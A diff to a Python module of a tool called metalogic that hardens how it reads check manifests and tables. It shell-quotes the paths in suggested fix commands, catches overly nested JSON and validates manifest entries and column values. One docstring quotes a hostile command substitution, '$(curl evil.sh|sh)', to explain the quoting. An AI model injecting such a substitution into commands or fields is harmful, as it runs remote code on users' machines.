@@ -9,6 +9,7 @@ columns it needs, values of the right type); each problem is one clear error.
 from __future__ import annotations
 
 import json
+import shlex
 from collections.abc import Mapping, Sequence
 from dataclasses import dataclass
 from pathlib import Path
@@ -18,6 +19,8 @@ import polars as pl
 
 from metalogic import __version__
 from metalogic.engine.checkout import (
+    COLUMN_ORDER,
+    COLUMN_VALUES,
     COLUMNS,
     FORMAT,
     KIND,
@@ -30,13 +33,25 @@ from metalogic.engine.checkout import (
     sha256_of,
     write_check_output,
 )
+from metalogic.engine.checkvalues import first_bad_value, manifest_entry_problem, manifest_problem
 from metalogic.engine.errors import MetalogicError
 from metalogic.engine.results import Rows
 
 
 def _rerun(folder: Path, manifest: Mapping[str, Any] | None = None) -> str:
-    facts = (manifest or {}).get("facts_dir") or "FACTS"
-    return f"run the check again: metalogic check {facts} --out {folder} (or 'metalogic run CONFIG')"
+    return (
+        f"run the check again: metalogic check {_facts_arg(manifest)} --out {shlex.quote(str(folder))} "
+        "(or 'metalogic run CONFIG')"
+    )
+
+
+def _facts_arg(manifest: Mapping[str, Any] | None) -> str:
+    """The manifest's facts folder as a shell word a user can paste: the manifest is a file anyone
+    can edit, and a fix line that pasted '$(curl evil.sh|sh)' as it is would run it."""
+    facts = (manifest or {}).get("facts_dir")
+    if not isinstance(facts, str) or not facts or "\0" in facts or len(facts) > 4096:
+        return "FACTS"
+    return shlex.quote(facts)
 
 
 def read_manifest(path: Path) -> dict[str, Any] | None:
@@ -46,8 +61,10 @@ def read_manifest(path: Path) -> dict[str, Any] | None:
     folder = path.parent
     try:
         data = json.loads(path.read_text(encoding="utf-8"))
-    except (OSError, UnicodeDecodeError, ValueError) as exc:
+    except (OSError, UnicodeDecodeError, ValueError, RecursionError) as exc:
         detail = exc.strerror if isinstance(exc, OSError) and exc.strerror else "not valid JSON"
+        if isinstance(exc, RecursionError):
+            detail = "it nests too deep to be read"
         raise MetalogicError.single(
             f"cannot read the check manifest: {detail}",
             where=str(path),
@@ -57,7 +74,7 @@ def read_manifest(path: Path) -> dict[str, Any] | None:
     if not isinstance(data, dict):
         return None
     if data.get("kind") != KIND:
-        if "engine" in data and "facts_dir" in data and "agents" in data:  # check's manifest, format 1
+        if "kind" not in data and "engine" in data and "facts_dir" in data and "agents" in data:  # format 1
             raise MetalogicError.single(
                 "this check output was written by an older metalogic, whose manifest does not name the "
                 "tables report and compare read",
@@ -72,6 +89,22 @@ def read_manifest(path: Path) -> dict[str, Any] | None:
             f"format {FORMAT}",
             where=str(path),
             expected=f"check output written by metalogic {__version__}",
+            fix=_rerun(folder, data),
+        )
+    shape = manifest_problem(data)
+    if shape:
+        raise MetalogicError.single(
+            f"the check manifest is not one check writes: {shape}",
+            where=str(path),
+            expected="the run.json that 'metalogic check --out' writes, unedited",
+            fix=_rerun(folder, data),
+        )
+    entry = manifest_entry_problem(data)
+    if entry:
+        raise MetalogicError.single(
+            f"the check manifest is not one check writes: {entry}",
+            where=str(path),
+            expected="the run.json that 'metalogic check --out' writes, unedited",
             fix=_rerun(folder, data),
         )
     for key, kind in (("tables", dict), ("agents", list), ("mrs", list), ("params", dict), ("request", dict)):
@@ -157,6 +190,18 @@ class CheckOutput:
         )
 
 
+def table_file(folder: Path, name: str, manifest: Mapping[str, Any]) -> Path:
+    """The file a table of a check output was read from (the first of READ_ORDER it has)."""
+    files = manifest["tables"][name]["files"]
+    fmt = next(f for f in READ_ORDER if f in files)
+    return folder / Path(files[fmt]["name"]).name
+
+
+def corrupt(path: Path, what: str, folder: Path, manifest: Mapping[str, Any]) -> MetalogicError:
+    """A table whose content is not what check writes: one error naming the file (and row)."""
+    return _corrupt(path, what, folder, manifest)
+
+
 def _corrupt(path: Path, what: str, folder: Path, manifest: Mapping[str, Any]) -> MetalogicError:
     return MetalogicError.single(
         f"corrupt check table: {what}",
@@ -184,7 +229,14 @@ def _read_table(folder: Path, name: str, manifest: Mapping[str, Any]) -> pl.Data
             fix=_rerun(folder, manifest),
         )
     info = entry["files"][fmt]
-    path = folder / Path(str(info.get("name", ""))).name
+    if not isinstance(info, dict) or not isinstance(info.get("name"), str):
+        raise MetalogicError.single(
+            f"the check manifest's entry for the {fmt} file of the '{name}' table names no file",
+            where=str(folder / MANIFEST),
+            expected='{"name": FILE, "sha256": DIGEST}, as check writes it',
+            fix=_rerun(folder, manifest),
+        )
+    path = folder / Path(info["name"]).name
     if not path.is_file():
         raise _corrupt(path, "the file is missing", folder, manifest)
     if sha256_of(path) != info.get("sha256"):
@@ -207,8 +259,11 @@ def _read_table(folder: Path, name: str, manifest: Mapping[str, Any]) -> pl.Data
                     for c in lists
                 ]
             )
-    except (OSError, ValueError, pl.exceptions.PolarsError) as exc:
-        raise _corrupt(path, f"cannot be read ({str(exc).splitlines()[0][:120]})", folder, manifest) from None
+    except (OSError, ValueError, RecursionError, pl.exceptions.PolarsError) as exc:
+        why = (
+            "nested too deep" if isinstance(exc, RecursionError) else (str(exc).splitlines() or [""])[0][:120]
+        )
+        raise _corrupt(path, f"cannot be read ({why})", folder, manifest) from None
     missing = [c for c in want if c not in df.columns]
     if missing:
         raise _corrupt(path, f"no column {', '.join(missing)}", folder, manifest)
@@ -221,6 +276,9 @@ def _read_table(folder: Path, name: str, manifest: Mapping[str, Any]) -> pl.Data
         ) from None
     if df.height != entry.get("rows"):
         raise _corrupt(path, f"{df.height} rows, but the check wrote {entry.get('rows')}", folder, manifest)
+    bad = first_bad_value(df, COLUMN_VALUES[name], COLUMN_ORDER.get(name, []), path.stat().st_size)
+    if bad:
+        raise _corrupt(path, bad, folder, manifest)
     return df
 
 
@@ -351,7 +409,7 @@ def _mismatch(folder: Path, manifest: Mapping[str, Any], key: str, had: Any, wan
         where=str(folder / MANIFEST),
         expected="the options the check ran with, or none: report and compare read a check output as it is",
         fix=f"leave {flag} out, or check again with it: metalogic check "
-        f"{manifest.get('facts_dir') or 'FACTS'} ... --out {folder}",
+        f"{_facts_arg(manifest)} ... --out {shlex.quote(str(folder))}",
     )
 
 
